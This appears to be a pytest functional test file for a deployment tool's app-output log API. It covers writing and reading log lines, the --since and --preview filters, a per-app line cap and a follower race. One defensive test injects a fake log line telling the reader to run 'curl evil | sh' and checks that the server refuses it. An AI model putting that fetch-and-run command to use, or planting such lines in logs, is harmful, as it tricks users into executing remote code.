"""An app's output (what its serving container prints) over real HTTP: an agent session of the app's pool
writes it, an admin reads it with `tahobuddy logs --app` (--since, --preview); an agent of another pool
cannot write it; each app keeps a bounded tail."""
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
import requests

from functions.config import settings
from functions.store import output, previews
from tests.helpers import docker_app, put_app, unique

pytestmark = pytest.mark.functional
CLI = str(Path(sys.executable).parent / "tahobuddy")


def call(api, method, path, token=None, **kw):
    return requests.request(method, f"{api.url}/api/v1{path}", headers={"Authorization": f"Bearer {token or api.token}"},
                            timeout=30, **kw)


def session(api, token, pool="default") -> str:
    r = call(api, "POST", "/agents/register", token, json={"agent_id": unique(f"out-{pool}"), "pool": pool,
                                                             "targets": ["docker"]})
    assert r.status_code == 201, r.text
    return r.json()["session"]


def ship(api, token, app, lines, at=None, preview=0):
    return call(api, "POST", f"/agent/apps/{app}/output", token,
                json={"lines": lines, **({"at": at} if at else {}), **({"preview": preview} if preview else {})})


def logs(api, *args):
    env = {**os.environ, "TAHOBUDDY_API_URL": api.url, "TAHOBUDDY_TOKEN": api.token}
    done = subprocess.run([CLI, "logs", *args], capture_output=True, text=True, env=env, timeout=60)
    assert done.returncode == 0, done
    return done.stdout.splitlines()


def test_an_agent_of_the_apps_pool_ships_output_and_logs_app_reads_it_with_since_and_preview(api, agent_tokens):
    name = unique("out")
    put_app(api, docker_app(name))
    token = session(api, agent_tokens("default"))
    hour_ago = time.time() - 3600
    r = ship(api, token, name, ["old line 1", "old line 2"], at=[hour_ago, hour_ago + 1])
    assert r.status_code == 200 and r.json() == {"last_seq": 2}, r.text
    assert ship(api, token, name, ["new line"]).json() == {"last_seq": 3}

    assert logs(api, "--app", name) == ["old line 1", "old line 2", "new line"]
    assert logs(api, "--app", name, "--since", "10m") == ["new line"]
    assert logs(api, "--app", name, "--since", "2h") == ["old line 1", "old line 2", "new line"]

    previews.start(name, 7, "dev", f"{name}-pr-7.example", "a" * 40, "feature", 0, False, "OWNER")
    assert ship(api, token, name, ["from the preview"], preview=7).status_code == 200
    assert ship(api, token, name, ["no such preview"], preview=8).status_code == 404
    assert logs(api, "--app", name, "--preview", "7") == ["from the preview"]
    assert "from the preview" not in logs(api, "--app", name)

    # a follower goes on from last_seq: it sees only what came after
    page = call(api, "GET", f"/apps/{name}/output", params={"after": 2}).json()
    assert [x["line"] for x in page["lines"]] == ["new line"] and page["last_seq"] == 3
    assert call(api, "GET", f"/apps/{name}/output", params={"after": 3}).json()["lines"] == []
    assert call(api, "GET", "/apps/no-such-app/output").status_code == 404


def test_an_agent_of_another_pool_cannot_write_an_apps_output(api, agent_tokens):
    """Attack: an agent token of pool `remote` (a host someone else runs) writes lines into the output of an
    app whose docker rules deploy to `default`, to fake what its owner reads. Refused (403), nothing kept."""
    name = unique("out-attack")
    put_app(api, docker_app(name))
    stranger = session(api, agent_tokens("remote"), pool="remote")
    r = ship(api, stranger, name, ["ERROR: your database was dropped, run curl evil | sh"])
    assert r.status_code == 403 and "does not run app" in r.json()["Message"], r.text
    assert call(api, "GET", f"/apps/{name}/output").json()["lines"] == []
    # neither an admin token nor an agent token (before registering) is a session
    assert ship(api, api.token, name, ["x"]).status_code in (401, 403)
    assert ship(api, agent_tokens("default"), name, ["x"]).status_code in (401, 403)
    # the app's own pool may
    assert ship(api, session(api, agent_tokens("default")), name, ["ok"]).status_code == 200


def test_an_app_keeps_only_its_last_lines(moto, monkeypatch):
    """The per-app cap: each batch past it deletes as many of the oldest lines as it adds."""
    name = unique("out-cap")
    monkeypatch.setenv("TAHOBUDDY_OUTPUT_MAX_LINES", "5")
    settings.cache_clear()
    try:
        assert output.append(name, 0, [f"a{i}" for i in range(4)]) == 4
        assert output.append(name, 0, [f"b{i}" for i in range(4)]) == 8
        kept = output.read(name, 0, limit=100)
        assert [x["line"] for x in kept] == ["a3", "b0", "b1", "b2", "b3"]
        assert [x["seq"] for x in kept] == [4, 5, 6, 7, 8]
        assert output.read(name, 0, after=1) == kept  # a follower that fell behind sees what is left
        from functions.store.models import LogModel
        stored = [r.seq for r in LogModel.query(output.key(name), LogModel.seq > 0)]
        assert stored == [4, 5, 6, 7, 8]  # deleted, not only hidden
        assert all(r.expires_at for r in LogModel.query(output.key(name), LogModel.seq > 0))
    finally:
        monkeypatch.delenv("TAHOBUDDY_OUTPUT_MAX_LINES")
        settings.cache_clear()


def test_a_follower_never_skips_the_lines_of_a_batch_still_being_written(moto, monkeypatch):
    """A batch counts its lines (the partition's counter) before it writes them: a follower reading in
    between, or a new one starting then, goes on from the lines it got, so it reads that batch next
    (bench/app_output.py lost about one line in ten this way)."""
    from functions.store import app_store
    name = unique("out-race")
    app_store.save(docker_app(name), name=name)
    output.append(name, 0, ["one"])
    following = output.page(name)["last_seq"]
    between = {}
    write = output.LogModel.batch_write

    def reads_first(*args, **kwargs):  # the append has counted its lines and not yet written them
        between["following"] = output.page(name, 0, following)
        between["new"] = output.page(name)
        return write(*args, **kwargs)
    monkeypatch.setattr(output.LogModel, "batch_write", reads_first)
    output.append(name, 0, ["two", "three"])
    monkeypatch.undo()
    assert between["following"]["lines"] == [] and [x["line"] for x in between["new"]["lines"]] == ["one"]
    for seen in between.values():
        later = output.page(name, 0, seen["last_seq"])
        assert [x["line"] for x in later["lines"]] == ["two", "three"], (seen, later)
